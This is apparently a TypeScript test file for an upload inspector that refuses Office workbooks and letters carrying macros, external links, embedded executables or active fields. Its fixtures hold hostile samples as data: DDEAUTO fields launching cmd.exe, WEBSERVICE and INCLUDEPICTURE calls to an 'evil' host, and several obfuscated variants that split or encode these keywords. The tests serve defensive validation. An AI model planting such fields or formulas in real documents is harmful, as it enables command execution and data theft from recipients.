import { expect, test } from 'vitest'
import { inspectDocument, letterTypes } from '#worker/files/document'
import { partsOf, zipped } from '#worker/test/sheets'

const found = async (bytes: Uint8Array) => {
  const inspected = await inspectDocument(bytes, letterTypes)
  return inspected.ok ? inspected.type : inspected.reason
}
const relations = (type: string, target: string, mode = 'External') =>
  `<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="${mode}"/></Relationships>`
const letter = (others: Record<string, string | Uint8Array> = {}) =>
  zipped({ '[Content_Types].xml': '<Types/>', 'word/document.xml': '<w:document/>', ...others })
const workbook = (others: Record<string, string>, cells = '') => zipped(partsOf(cells, others))
const written = (...pieces: string[]) => ({
  'word/document.xml': `<w:document><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${pieces.map((one) => `<w:r><w:instrText xml:space="preserve">${one}</w:instrText></w:r>`).join('')}</w:p></w:document>`,
})

/** A compound file of streams, all of them large enough for sectors of their own. */
function compound(streams: Record<string, Buffer>): Uint8Array {
  const [sector, none, end] = [512, 0xffffffff, 0xfffffffe]
  const named = Object.entries(streams)
  const directory = Math.ceil((named.length + 1) / 4)
  const table = Array<number>(128).fill(none)
  table[0] = 0xfffffffd
  for (let at = 1; at <= directory; at += 1) table[at] = at < directory ? at + 1 : end
  let next = 1 + directory
  const entry = (name: string, kind: number, start: number, size: number) => {
    const bytes = Buffer.alloc(128)
    bytes.write(name, 0, 'utf16le')
    bytes.writeUInt16LE((name.length + 1) * 2, 64)
    bytes[66] = kind
    bytes.writeUInt32LE(start, 116)
    bytes.writeUInt32LE(size, 120)
    return bytes
  }
  const entries = [entry('Root Entry', 5, end, 0)]
  const bodies: Buffer[] = []
  for (const [name, content] of named) {
    const body = Buffer.alloc(Math.ceil(Math.max(content.length, 4096) / sector) * sector)
    content.copy(body)
    entries.push(entry(name, 2, next, body.length))
    for (let left = body.length / sector; left > 0; left -= 1, next += 1)
      table[next] = left > 1 ? next + 1 : end
    bodies.push(body)
  }
  const header = Buffer.alloc(sector)
  header.set([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1])
  header.writeUInt16LE(0xfffe, 28)
  header.writeUInt16LE(9, 30)
  header.writeUInt32LE(1, 48)
  header.writeUInt32LE(end, 60)
  header.writeUInt32LE(0, 76)
  const sectors = Buffer.alloc(sector)
  for (const [at, value] of table.entries()) sectors.writeUInt32LE(value, at * 4)
  const list = Buffer.alloc(directory * sector)
  Buffer.concat(entries).copy(list)
  return Buffer.concat([header, sectors, list, ...bodies])
}
const record = (kind: number, ...numbers: number[]) => {
  const bytes = Buffer.alloc(4)
  bytes.writeUInt16LE(kind, 0)
  bytes.writeUInt16LE(numbers.length, 2)
  return Buffer.concat([bytes, Buffer.from(numbers)])
}
test('a workbook that names other files, addresses or programs is refused, as a letter is', async () => {
  expect(await found(workbook({}))).toBe('xlsx')
  const others: Record<string, string>[] = [
    { 'xl/externalLinks/externalLink1.xml': '<externalLink/>' },
    { 'xl/links/_rels/a.xml.rels': relations('externalLinkPath', 'file:///\\\\evil\\x.xls') },
    { 'xl/links/_rels/a.xml.RELS': relations('externalLinkPath', 'file:///\\\\evil\\x.xls') },
    { 'xl/connections.xml': '<connections/>' },
    { 'xl/embeddings/a.bin': 'x' },
    {
      'xl/x.xml':
        '<Types><Default Extension="a" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
    },
  ]
  for (const other of others) expect(await found(workbook(other)), JSON.stringify(other)).toBe('type')
  const cell = (formula: string) => workbook({}, `<row><c r="A1"><f>${formula}</f><v>1</v></c></row>`)
  expect(await found(cell('SUM(B1:B4)'))).toBe('xlsx')
  for (const formula of [
    '_xlfn.WEBSERVICE("http://evil/"&amp;A2)',
    '_xlfn.IMAGE ("http://evil/")',
    'CALL("a")',
    '_xlfn.WEBSERVIC&#69;("http://evil/?"&amp;A1)',
    'WEBSERVICE&#x28;"http://evil/")',
    'WEBSER<![CDATA[VICE(]]>"http://evil/")',
  ])
    expect(await found(cell(formula)), formula).toBe('type')
  const sheet = (inner: string) =>
    found(workbook({ 'xl/worksheets/sheet2.xml': `<worksheet>${inner}</worksheet>` }))
  for (const name of ['definedName', 'formula', 'formula1', 'formula2', 'calculatedColumnFormula']) {
    expect(await sheet(`<${name}>SUM(A1:A4)&gt;3</${name}>`), name).toBe('xlsx')
    expect(await sheet(`<${name}>WEBSERVICE("http://evil")</${name}>`), name).toBe('type')
    expect(await sheet(`<x:${name}>WEBSERVIC&#69;("http://evil")</x:${name}>`), name).toBe('type')
  }
})

test('a part that is another file is refused whatever it is called', async () => {
  expect(await found(letter({ 'word/media/image1.png': '\x89PNG' }))).toBe('docx')
  for (const [name, start] of Object.entries({
    'word/media/image1.png': 'MZ\x90',
    'word/a.bin': Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
    'a.class': Buffer.from([0xca, 0xfe, 0xba, 0xbe]),
    'docProps/thumbnail.jpeg': 'PK\x03\x04',
    'word/a.dat': '{\\rtf1 {\\object}}',
    'word/media/image2.emf': '%!PS-Adobe',
    'word/media/image3.emf': 'MSCF\0\0',
    'word/media/image4.emf': 'L\0\0\0\x01\x14\x02\0\0',
    'word\\embeddings\\a.bin': 'x',
    'word\\externalLinks\\a.xml': '<x/>',
    'customUI/customUI.xml': '<customUI onLoad="x"/>',
  }))
    expect(await found(letter({ [name]: start })), name).toBe('type')
})

test('a letter with a field that loads something, or starts a program, is refused, in however many pieces it is written', async () => {
  expect(await found(letter(written(' PAGE ')))).toBe('docx')
  expect(await found(letter(written(' HYPERLINK "https://dss.gov.bd" ')))).toBe('docx')
  for (const pieces of [
    ['DDEAUTO c:\\\\cmd.exe "/k"'],
    ['DDE', 'AUTO c:\\\\cmd.exe'],
    [' INCLUDEPICTURE "http://evil/x.png"'],
    ['DD&#69;AUTO c:\\\\cmd.exe'],
    ['INCLUDE&#x50;', 'ICTURE "http://evil/x.png"'],
    ['DD<!-- -->EAUTO c:\\\\cmd.exe'],
  ])
    expect(await found(letter(written(...pieces))), pieces[0]).toBe('type')
  const simple = '<w:document><w:fldSimple w:instr=" DDEAUTO c:\\cmd.exe x "/></w:document>'
  expect(await found(letter({ 'word/document.xml': simple }))).toBe('type')
  expect(await found(letter({ 'word/footer1.xml': simple }))).toBe('type')
  const shape = `<w:document><v:shape o:gfxdata="${'UEsDBBQA'.repeat(20_000)}"/></w:document>`
  expect(await found(letter({ 'word/document.xml': shape }))).toBe('docx')
})

test('an old workbook with macros of the oldest kind, locked, or that names another file, is refused', async () => {
  const start = record(0x0809, 0, 6, 5, 0)
  const sheet = (kind: number) => record(0x0085, 0, 0, 0, 0, 0, kind, 1, 0, 65)
  const of = (...all: Buffer[]) => compound({ Workbook: Buffer.concat([start, ...all, record(0x000a)]) })
  expect(await found(of(sheet(0), record(0x01ae, 1, 0, 1, 4)))).toBe('xls')
  for (const [name, one] of Object.entries({
    macros: sheet(1),
    module: sheet(6),
    'a sheet of macros': record(0x0809, 0, 6, 0x40, 0),
    locked: record(0x002f, 0, 0),
    elsewhere: record(0x01ae, 1, 0, 9, 0),
  }))
    expect(await found(of(sheet(0), one)), name).toBe('type')
  expect(await found(compound({ Workbook: start, 'Equation Native': Buffer.from('x') }))).toBe('type')
})
